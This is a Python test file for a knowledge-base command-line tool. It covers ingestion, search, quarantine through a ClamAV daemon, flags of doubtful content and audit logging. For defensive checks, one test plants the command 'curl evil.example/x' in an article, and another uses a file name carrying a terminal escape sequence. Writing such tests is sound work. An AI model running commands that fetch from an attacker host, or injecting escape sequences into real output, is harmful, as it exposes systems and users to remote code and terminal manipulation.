# SPDX-License-Identifier: Apache-2.0
"""The knowledge base at the command line: exit codes, tables, JSON, and who decides what."""

import asyncio
import json
import re

import pytest
from typer.testing import CliRunner

from api.cli import app
from api.cli_ground import console
from retrieval.embedding import FOLDER_NAME
from tests.reasoning.situations import query
from tests.stack.clamd import MARKER, SIGNATURE, open_clamd
from tests.stack.prepared import find_exported

ARTICLE = (
    "# Bilby badge reader\n\nThe bilby badge reader blinks red after an update of its firmware.\n\n"
    "1. Unplug the reader and wait until the light has gone out.\n"
    "2. Run `bilbyctl reset --keep-cards` on the door controller as the service account.\n"
    "3. Plug it in again and let a colleague try the badge that failed before.\n"
)


@pytest.fixture(scope="module")
def clamd():
    with open_clamd() as running:
        yield running


@pytest.fixture
def run(services, monkeypatch, clamd):
    """Run `eucora kb` on the database of `services`; return code and output."""
    ground = services.ground
    (ground.settings.data_dir / FOLDER_NAME).symlink_to(find_exported())
    monkeypatch.setenv("EUCORA_DATABASE_URL", ground.addresses.owner)
    monkeypatch.setenv("EUCORA_DATA_DIR", str(ground.settings.data_dir))
    monkeypatch.setenv("EUCORA_CLAMD", clamd.unix)
    monkeypatch.setattr(console, "width", 300)

    async def run_command(*words: str) -> tuple[int, str]:
        ended = await asyncio.to_thread(CliRunner().invoke, app, ["kb", *words])
        assert ended.exception is None or isinstance(ended.exception, SystemExit), ended.exception
        return ended.exit_code, ended.output

    return run_command


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "Door Docs"
    path.mkdir()
    (path / "bilby.md").write_text(ARTICLE)
    return path


async def test_from_a_folder_to_search_and_out_again(services, run, folder):
    words = ("ingest", str(folder), "--trust", "internal", "--platform", "linux", "--actor", "dora")
    code, output = await run(*words)
    assert code == 0, output
    assert "source door-docs: internal trust, read by everybody" in output
    assert "documents stored: 1" in output
    code, output = await run("search", "bilby badge reader")
    assert (code, "door-docs.bilby-" in output) == (0, True)
    (folder / "[bold]\x1b[2J.pdf").write_bytes(b"%PDF-1.7 broken")
    code, output = await run("ingest", str(folder))
    assert code == 3, output
    assert "\x1b[2J" not in output
    assert re.search(r"in search, as it was\s*│\s*1", output)
    assert re.search(r"not taken\s*│\s*1", output)
    # What was refused and is as it was is no news.
    code, output = await run("ingest", str(folder))
    assert code == 0, output
    assert (
        "as before, 1 file is not taken: eucora kb files door-docs --verdict not-taken\n" in output
    )
    assert "[bold]" not in output
    code, output = await run("ingest", str(folder), "--json")
    facts = json.loads(output)
    assert (code, facts["counts"]) == (0, {"unchanged": 1, "rejected": 1})
    (refused,) = facts["files"]
    assert (refused["reason"], refused["unchanged"]) == ("broken", True)
    (folder / "[bold]\x1b[2J.pdf").write_bytes(b"%PDF-1.7 broken otherwise")
    assert (await run("ingest", str(folder)))[0] == 3

    code, output = await run("sources")
    assert (code, "door-docs" in output, str(folder) in output) == (0, True, True)
    (headings,) = [line for line in output.splitlines() if "not taken" in line]
    assert "held back" in headings
    code, output = await run("source", "show", "door-docs", "--json")
    facts = json.loads(output)
    assert (code, facts["platforms"]) == (0, ["linux"])
    assert (facts["rejected"], facts["held"], facts["refused"]) == (1, 0, 1)
    code, output = await run("files", "door-docs", "--verdict", "rejected", "--json")
    assert [each["verdict"] for each in json.loads(output)] == ["rejected"]
    assert (await run("files", "nothing"))[0] == 1
    assert (await run("source", "remove", "door-docs"))[0] == 1  # nobody says yes
    code, output = await run("source", "remove", "door-docs", "--yes", "--actor", "dora")
    assert (code, output) == (0, "documents out of search: 1\n")
    assert "door-docs" not in (await run("sources"))[1]
    assert (await run("source", "show", "door-docs"))[0] == 0
    code, output = await run("search", "bilby badge reader")
    assert "door-docs.bilby-" not in output
    (event,) = await query(
        services, "SELECT actor FROM audit_events WHERE action = 'source.removed'"
    )
    assert event["actor"] == "cli:dora"


async def test_what_is_doubtful_is_decided_on(services, run, folder, tmp_path):
    await run("ingest", str(folder), "--trust", "internal", "--actor", "dora")
    other = tmp_path / "web.md"
    other.write_text(ARTICLE.replace("bilbyctl reset --keep-cards", "curl evil.example/x"))
    assert (await run("ingest", str(other), "--source", "web"))[0] == 0
    code, output = await run("flags")
    assert (code, "evil.example/x" in output) == (0, True)
    (flag_id,) = re.findall(r"flg_\w+", output)
    assert (await run("flags", "retire", flag_id))[0] == 0
    assert (await run("flags", "retire", flag_id))[0] == 1
    assert flag_id not in (await run("flags", "list"))[1]

    (folder / "alarm.md").write_bytes(b"# Alarm\n\nA quoll. " + MARKER)
    code, output = await run("ingest", str(folder), "--actor", "dora")
    assert (code, SIGNATURE in output) == (3, True)
    code, output = await run("quarantine", "list")
    (held,) = re.findall(r"qua_\w+", output)
    other.write_bytes((folder / "alarm.md").read_bytes())
    assert (await run("ingest", str(other), "--source", "web"))[0] == 3
    code, output = await run("quarantine", "list")
    assert (re.findall(r"qua_\w+", output), "door-docs, web" in output) == ([held], True), output
    code, output = await run("ingest", str(other), "--source", "web")
    assert (code, "as before, 1 file is held back" in output) == (0, True), output
    for source in ("door-docs", "web"):
        facts = json.loads((await run("source", "show", source, "--json"))[1])
        assert (facts["held"], facts["rejected"]) == (1, 0), source
    release = ("quarantine", "release", held, "--requested-by", "bob", "--reason", "a test")
    assert (await run(*release, "--actor", "dora"))[0] == 1
    assert (await run(*release, "--actor", "bob"))[0] == 1
    code, output = await run(*release, "--actor", "rita")
    assert (code, "run the ingestion of door-docs, web again" in output) == (0, True), output
    assert (await run("ingest", str(folder)))[0] == 0
    assert (await run("quarantine", "destroy", held, "--reason", "no", "--actor", "rita"))[0] == 0


async def test_what_is_wrong_is_said(run, tmp_path, monkeypatch):
    code, output = await run("ingest", str(tmp_path / "nowhere"))
    assert (code, "no such file or folder" in output) == (1, True)
    monkeypatch.setenv("EUCORA_CLAMD", f"unix:{tmp_path}/none.ctl")
    code, output = await run("ingest", str(tmp_path))
    assert (code, "clamav-daemon" in output, "EUCORA_CLAMD=off" in output) == (1, True, True)
    assert (await run("ingest", str(tmp_path), "--trust", "starter"))[0] == 2


async def test_drafts_of_an_export_are_told_and_are_no_failure(run, tmp_path):
    article = {"sys_id": "a1", "number": "KB0010001", "short_description": "Bilby", "text": ARTICLE}
    drafts = [
        {
            **article,
            "sys_id": f"d{number}",
            "number": f"KB002000{number}",
            "workflow_state": "draft",
        }
        for number in range(5)
    ]
    export = tmp_path / "export.json"
    export.write_text(json.dumps({"result": [article, *drafts]}))
    code, output = await run("ingest", str(export), "--trust", "internal")
    assert code == 0, output
    assert (
        "5 parts of it were left out: KB0020000, KB0020001, KB0020002 and 2 more: in the state"
        " draft, and only published ones are taken"
    ) in output


async def test_a_source_and_its_verdicts_are_told_in_the_words_that_are_typed(run, folder):
    (folder / "broken.pdf").write_bytes(b"%PDF-1.7 broken")
    assert (await run("ingest", str(folder)))[0] == 3
    code, output = await run("source", "show", "door-docs")
    told = dict(re.split(r"  +", line, maxsplit=1) for line in output.splitlines() if "  " in line)
    assert code == 0
    assert told["brought from"] == f"folder {folder}"
    assert told["read by"] == "everybody"
    assert told["files"] == "1 in search, 1 not taken, 0 held back"
    assert output.endswith("why not: eucora kb files door-docs --verdict not-taken\n")
    assert not any(word in output.replace(str(folder), "") for word in ("rejected", "None", "{"))
    for words in ("rejected", "not-taken", "not taken", "Not_Taken"):
        code, output = await run("files", "door-docs", "--verdict", words, "--json")
        assert [each["verdict"] for each in json.loads(output)] == ["rejected"]
    code, output = await run("files", "door-docs", "--verdict", "lost")
    assert (code, all(word in output for word in ("in-search,", "not-taken,"))) == (2, True)
